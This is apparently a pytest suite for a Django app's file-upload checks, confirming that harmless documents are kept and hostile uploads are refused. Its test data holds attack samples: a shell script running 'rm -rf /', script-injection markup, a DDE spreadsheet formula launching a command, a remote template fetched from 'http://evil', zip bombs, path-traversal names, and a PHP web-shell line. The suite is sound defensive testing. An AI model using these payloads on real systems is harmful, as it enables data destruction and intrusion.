"""I03: what is let in is told by content; everything hostile is refused or becomes inert."""

import io
import zipfile

import pytest
from PIL import Image

from soe.audit.context import acting_as
from soe.web.files import archives, images, kinds, pdfs, services
from soe.web.files.errors import UploadRefused
from soe.web.files.models import Attachment, private_storage
from soe.web.files.names import display_name
from tests.factories.core import member
from tests.factories.register import PropertyFactory

from . import samples
from .samples import upload

pytestmark = pytest.mark.django_db


@pytest.fixture
def house():
    return PropertyFactory()


@pytest.fixture
def keep(house):
    """keep(content, name) → the attachment, added by a member of the lead department."""
    person = member("register.view", "register.change", department=house.lead_department)

    def keep(content, name="datei", **kwargs):
        with acting_as(person):
            return services.attach(house, upload(content, name), **kwargs)

    return keep


def stored(row, field="file"):
    with getattr(row, field).open("rb") as file:
        return file.read()


GOOD = {
    "jpeg": (lambda: samples.jpeg(), "foto.JPG", "foto.jpg"),
    "png": (lambda: samples.picture("PNG", mode="RGBA"), "plan.png", "plan.png"),
    "pdf": (lambda: samples.pdf(), "bescheid.pdf", "bescheid.pdf"),
    "docx": (lambda: samples.docx(), "brief.docx", "brief.docx"),
    "xlsx": (lambda: samples.xlsx(), "liste.xlsx", "liste.xlsx"),
    "odt": (lambda: samples.odt(), "text.odt", "text.odt"),
    "txt": (lambda: "Müllabfuhr; Größe\n1;2\n".encode("cp1252"), "liste.csv", "liste.csv"),
}


@pytest.mark.parametrize("kind", GOOD)
def test_what_people_send_is_kept_under_a_random_name_with_its_checksum(keep, kind):
    make, given, shown = GOOD[kind]
    row = keep(make(), given)
    assert (row.kind, row.name) == (kind, shown)
    assert "." not in row.file.name
    assert shown.split(".")[0] not in row.file.name
    assert services.digest(io.BytesIO(stored(row))) == row.sha256
    assert row.size == len(stored(row))


def test_webp_becomes_jpeg(keep):
    row = keep(samples.picture("WEBP"), "bild.webp")
    assert (row.kind, row.name) == ("jpeg", "bild.webp.jpg")


HOSTILE = {
    "renamed program": (b"MZ\x90\x00" + b"\0" * 200, "foto.jpg", "Programm"),
    "program for Linux": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "text.txt", "Programm"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "notiz.txt", "nicht angenommen"),
    "svg": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "bild.png", "SVG"),
    "html": (b"  \n<!DOCTYPE html><script>alert(1)</script>", "seite.txt", "Web-"),
    "html behind text": (b"Hallo " + b"a" * 900 + b"<script>alert(1)</script>", "text.txt", "Web-"),
    "html in UTF-16": ("\ufeff<html><script>".encode("utf-16-le"), "text.txt", "nicht angenommen"),
    "binary as text": (b"abc\x00\x01\x02", "text.csv", "nicht angenommen"),
    "dde cell": (b"name;wert\nx;=cmd|'/c calc'!A0\n", "liste.csv", "Programm starten"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "brief.docx", "alten Office"),
    "rar": (b"Rar!\x1a\x07\x00", "x.pdf", "Gepackte"),
    "gif": (b"GIF89a" + b"\0" * 20, "x.jpg", "GIF"),
    "heic": (b"\0\0\0\x18ftypheic" + b"\0" * 40, "x.heic", "Maximale"),
    "plain zip": (lambda: samples.packed({"a.txt": b"x"}, main=None), "x.docx", "Gepackte Dateien"),
    "docm as docx": (
        lambda: samples.packed({"[Content_Types].xml": samples.content_types(samples.MACRO)}),
        "brief.docx",
        "Makros",
    ),
    "vba in docx": (lambda: samples.docx(**{"word/vbaProject.bin": b"x"}), "brief.docx", "Makros"),
    "vba in nested docx": (
        lambda: samples.docx(**{"word/embeddings/a.docx": samples.docx(**{"word/vbaProject.bin": b"x"})}),
        "brief.docx",
        "Makros",
    ),
    "program in docx": (lambda: samples.docx(**{"word/media/bild.png": b"MZ\x90\0"}), "brief.docx", "Makros"),
    "remote template": (
        lambda: samples.docx(
            **{
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        "brief.docx",
        "von außen",
    ),
    "basic in odt": (lambda: samples.odt({"Basic/Standard/a.xml": b"<x/>"}), "text.odt", "Makros"),
    "encrypted odt": (
        lambda: samples.odt(manifest=b"<m><manifest:encryption-data/></m>"),
        "a.odt",
        "Kennwort",
    ),
    "entity bomb": (
        lambda: samples.docx(**{"word/evil.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "brief.docx",
        "beschädigt",
    ),
    "path in zip": (lambda: samples.docx(**{"../../etc/passwd": b"x"}), "brief.docx", "beschädigt"),
    "zip bomb": (lambda: samples.xlsx({"xl/sheet.xml": b"0" * 30_000_000}), "liste.xlsx", "Grenze"),
    "too many parts": (
        lambda: samples.xlsx({f"xl/p{n}": b"" for n in range(2100)}),
        "liste.xlsx",
        "Grenze",
    ),
    "pdf with javascript": (lambda: samples.pdf(javascript=True), "a.pdf", "startet"),
    "pdf with hidden javascript": (lambda: samples.pdf(javascript=True, compressed=True), "a.pdf", "startet"),
    "pdf with launch": (lambda: samples.pdf(launch=True), "a.pdf", "startet"),
    "pdf with a program": (lambda: samples.pdf(embedded=True), "a.pdf", "weitere Dateien"),
    "pdf with password": (lambda: samples.pdf(password="geheim"), "a.pdf", "Kennwort"),
    "pdf then html": (lambda: samples.pdf() + b"<script>alert(1)</script>", "a.pdf", "Hinter dem Ende"),
    "pdf then zip": (lambda: samples.pdf() + samples.docx(), "a.pdf", ""),
    "docx then html": (lambda: samples.docx() + b"<script>", "a.docx", "etwas anderes"),
    "zip behind something": (lambda: b"PK\x03\x04" + b"#!/bin/sh" + samples.docx(), "a.docx", ""),
    "60 megapixels": (lambda: samples.huge_png(10_000, 6_000), "foto.png", "60 Megapixel"),
    "broken image": (lambda: samples.jpeg()[:900], "foto.jpg", "beschädigt"),
    "empty": (b"", "foto.jpg", "leer"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused_with_a_german_sentence_and_leave_nothing(keep, case):
    content, name, words = HOSTILE[case]
    content = content() if callable(content) else content
    before = _files()
    with pytest.raises(UploadRefused) as refused:
        keep(content, name)
    assert words in refused.value.messages[0]
    assert not Attachment.objects.exists()
    assert _files() == before


def _files():
    from soe.web.files.retention import _stored

    return set(_stored(private_storage()))


def test_negative_control_without_the_checks_the_same_files_come_through(keep, monkeypatch):
    monkeypatch.setattr(archives, "check", lambda file, size: "docx")
    monkeypatch.setattr(pdfs, "check", lambda file, size: None)
    monkeypatch.setattr(kinds, "MARKUP", kinds.re.compile(rb"(?!)"))
    for case in ("vba in docx", "zip bomb", "pdf with javascript", "pdf then html", "html behind text"):
        content, name, _ = HOSTILE[case]
        assert keep(content() if callable(content) else content, name).pk


def test_a_program_behind_a_photo_does_not_survive(keep):
    """A polyglot is inert: only the pixels are written again."""
    for tail in (b"<script>alert(1)</script>", samples.docx(), b"<?php system($_GET[0]); ?>"):
        content = stored(keep(samples.jpeg() + tail, "foto.jpg"))
        assert tail[:20] not in content
        assert not zipfile.is_zipfile(io.BytesIO(content))


def test_a_photo_loses_its_metadata_stands_upright_and_is_made_smaller(keep):
    row = keep(samples.jpeg((3000, 2000), orientation=6), "foto.jpg")
    content = stored(row)
    image = Image.open(io.BytesIO(content))
    assert b"GEHEIME-KAMERA" not in content
    assert not image.getexif()
    assert image.size == (row.width, row.height) == (1707, 2560)  # turned by a quarter, longest edge 2560
    assert image.getpixel((1500, 100))[0] > 150  # the red corner moved from upper left to upper right
    assert max(Image.open(io.BytesIO(stored(row, "preview"))).size) == 480
    assert (row.taken_at, row.latitude, row.longitude) == (None, None, None)


def test_negative_control_the_sample_does_carry_metadata():
    content = samples.jpeg()
    assert b"GEHEIME-KAMERA" in content
    assert Image.open(io.BytesIO(content)).getexif().get_ifd(0x8825)


def test_place_and_time_are_kept_as_data_only_when_wished(keep):
    row = keep(samples.jpeg(), "foto.jpg", keep_place=True)
    assert (row.latitude, row.longitude) == (51.54, 7.22)
    assert (f"{row.taken_at:%Y-%m-%d}", f"{row.on:%Y-%m-%d}") == ("2026-03-14", "2026-03-14")
    assert b"GEHEIME-KAMERA" not in stored(row)


def test_pixels_are_counted_before_anything_is_decoded(monkeypatch):
    monkeypatch.setattr(Image.Image, "load", lambda self: pytest.fail("decoded"))
    with pytest.raises(UploadRefused, match="Megapixel"):
        images.prepare(io.BytesIO(samples.huge_png(10_000, 6_000)), "png")


def test_one_byte_over_the_limit_is_refused_and_the_limit_itself_is_not(keep, settings):
    settings.SOE_MAX_UPLOAD_MB = 1
    assert keep(b"a" * 1024 * 1024, "a.txt").size == 1024 * 1024
    with pytest.raises(UploadRefused, match="größer als 1 MB"):
        keep(b"a" * (1024 * 1024 + 1), "a.txt")


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("..\\..\\boot.ini", "boot.ini.txt"),
        ("rechnung\u202etxt.exe", "rechnungtxt.exe.txt"),
        ("a\0b.txt", "ab.txt"),
        ("CON.txt", "_CON.txt"),
        ("lpt1", "_lpt1.txt"),
        (".htaccess", "htaccess.txt"),
        ("", "Datei.txt"),
        ("…/ . ", "Datei.txt"),
        ('<img src=x onerror="1">.txt', "_img src=x onerror=_1__.txt"),
        ("x" * 300 + ".txt", "x" * 116 + ".txt"),
        ("Größe  und\tMaß.TXT", "Größe und Maß.txt"),
    ],
)
def test_names_lose_paths_invisible_and_reserved_parts(given, shown):
    assert display_name(given, ("txt", "csv")) == shown
